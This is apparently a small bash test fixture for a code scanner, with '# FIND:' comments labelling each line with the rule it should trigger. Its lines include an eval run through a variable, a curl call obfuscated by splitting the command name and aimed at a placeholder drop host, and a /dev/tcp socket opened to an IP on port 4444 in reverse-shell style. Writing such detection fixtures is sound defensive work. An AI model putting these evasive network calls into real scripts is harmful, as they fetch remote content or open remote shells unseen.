#!/bin/bash
cmd="eval"
$cmd "ls" # FIND: shell.dynamic-code
a=cu; b=rl
"$a$b" https://drop.example.net/ # FIND: shell.network
exec 3<>/dev/tcp/198.51.100.2/4444 # FIND: shell.network
